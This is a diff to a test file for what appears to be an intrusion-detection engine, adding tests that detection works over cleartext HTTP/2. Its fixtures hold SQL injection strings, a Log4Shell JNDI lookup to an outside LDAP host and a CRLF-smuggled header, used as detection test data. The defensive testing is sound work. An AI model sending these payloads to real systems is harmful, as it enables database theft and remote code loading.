@@ -13,6 +13,7 @@ import { parseConfig } from '../../src/config/config.js';
 import { Engine } from '../../src/engine/engine.js';
 import { SECTIONS } from '../../src/engine/sections.js';
 import type { AlertEvent, EngineEvent } from '../../src/output/events.js';
+import { h2ClientBytes } from '../app/h2-client.js';
 import { run, T0, type RunOutput } from '../helpers.js';
 import { Conn } from '../stream/segments.js';
 
@@ -423,6 +424,69 @@ describe('payloads pushed past max_header_bytes or max_headers by padding', () =
     const out = oneRequest(`GET / HTTP/1.1\r\n${'A: 1\r\n'.repeat(10)}X-Note: 1' UNION SELECT password FROM users--\r\n\r\n`, 'http:\n  max_headers: 8\n');
     assert.deepEqual(seen(out.alerts), [[SQLI, 4, 'header', '', CLIENT]]);
     assert.deepEqual(out.alerts[0].metadata.anomalies, ['headers_too_large']);
+  });
+});
+
+describe('web attacks over HTTP/2 in cleartext (h2c)', () => {
+  const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
+  /** One frame: 24-bit length, type, flags, stream id, payload. */
+  const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
+    const h = Buffer.alloc(9);
+    h.writeUIntBE(payload.length, 0, 3);
+    h[3] = type;
+    h[4] = flags;
+    h.writeUInt32BE(stream, 5);
+    return Buffer.concat([h, payload]);
+  };
+  const where = (out: RunOutput): [number, string, string][] => out.alerts.map((a) => [a.signature.sid, a.metadata.location[0], a.metadata.field?.[0] ?? '']);
+
+  it("inspects every stream of a prior-knowledge connection from Node's http2 client, whole or in 7-byte segments", async () => {
+    const bytes = await h2ClientBytes([
+      { headers: { ':path': '/search?q=%27%20OR%201%3D1--', 'user-agent': 'curl/8.5.0' } },
+      { headers: { ':method': 'POST', ':path': '/login', 'content-type': 'application/x-www-form-urlencoded' }, body: 'user=admin%27--&pass=x' },
+      { headers: { ':path': '/', cookie: 'a=1', 'x-api': '${jndi:ldap://198.51.100.7/a}' } },
+      { headers: { ':path': '/products?q=red+shoes&sort=price_asc', 'accept-language': 'en-GB' } },
+    ]);
+    for (const size of [bytes.length, 7]) {
+      const c = new Conn({ t0: T0 }).handshake();
+      for (let i = 0; i < bytes.length; i += size) c.send(bytes.subarray(i, i + size));
+      const out = run(c.serverAck().close().frames);
+      assert.deepEqual(where(out), [[SQLI, 'query', 'q'], [LOG4SHELL, 'header', 'x-api'], [SQLI, 'body', 'user']], `${size}-byte segments`);
+      if (size === bytes.length) assert.deepEqual(out.alerts.map((a) => a.pcapCnt), [4, 4, 4]);
+      assert.deepEqual([out.alerts[0].http?.protocol, out.alerts[0].http?.hostname, out.alerts[0].srcIp], ['HTTP/2.0', 'shop.example', CLIENT]);
+      const h = out.engine.http.stats;
+      assert.deepEqual([h.requests, h.request_bodies, h.transactions, h.http2_prior_knowledge, h.http2_errors, h.buffered_bytes], [4, 1, 4, 1, 0, 0]);
+    }
+  });
+
+  it('reads the connection an Upgrade: h2c answered 101 turns into', async () => {
+    const upgrade = 'GET / HTTP/1.1\r\nHost: shop.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n';
+    const bytes = await h2ClientBytes([{ headers: { ':path': '/item?id=5+UNION+SELECT+1,2--' } }]);
+    const c = new Conn({ t0: T0 }).handshake().send(upgrade).serverAck().reply('HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n').send(bytes);
+    const out = run(c.close().frames);
+    assert.deepEqual(seen(out.alerts), [[SQLI, 7, 'query', 'id', CLIENT]]);
+    assert.deepEqual([out.engine.http.stats.http2_upgrades, out.engine.http.stats.tunnels, out.engine.http.stats.requests], [1, 0, 2]);
+  });
+
+  it('inspects the body of a stream the client resets, and gives up a connection whose header block does not decode', () => {
+    // HEADERS: :method POST (static 3), :path /login, content-type (static 31) form; then DATA, then RST_STREAM.
+    const block = Buffer.concat([Buffer.from([0x83, 0x44, 6]), Buffer.from('/login'), Buffer.from([0x5f, 33]), Buffer.from('application/x-www-form-urlencoded')]);
+    const c = new Conn({ t0: T0 }).handshake();
+    c.send(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0)), frame(1, 0x4, 1, block)]));
+    c.send(frame(0, 0, 1, Buffer.from('user=admin%27--&pass=x')));
+    c.send(frame(3, 0, 1, Buffer.from([0, 0, 0, 8])));
+    const out = run(c.serverAck().close().frames);
+    // Inspected at the reset (frame 6), its transaction logged.
+    assert.deepEqual(seen(out.alerts), [[SQLI, 6, 'body', 'user', CLIENT]]);
+    assert.deepEqual([out.engine.http.stats.request_bodies, out.engine.http.stats.transactions], [1, 1]);
+    // A line break in a field (which RFC 9113 forbids) does not end the head written for it: the field after it is read.
+    const hidden = Buffer.concat([Buffer.from([0x82, 0x84, 0x40, 1]), Buffer.from('x'), Buffer.from([8]), Buffer.from('a\r\n\r\nb: '), Buffer.from([0x40, 5]), Buffer.from('x-api'), Buffer.from([29]), Buffer.from('${jndi:ldap://198.51.100.7/a}')]);
+    const crlf = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(1, 0x5, 1, hidden)]));
+    assert.deepEqual(seen(run(crlf.close().frames).alerts), [[LOG4SHELL, 4, 'header', 'x-api', CLIENT]]);
+    // Index 64 is in no table: the block cannot be read, nor can anything after it.
+    const bad = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(1, 0x5, 1, Buffer.from([0xc0]))])).send(frame(1, 0x5, 3, block));
+    const out2 = run(bad.close().frames);
+    assert.deepEqual([out2.alerts.length, out2.engine.http.stats.http2_errors, out2.engine.http.stats.requests], [0, 1, 0]);
   });
 });
 
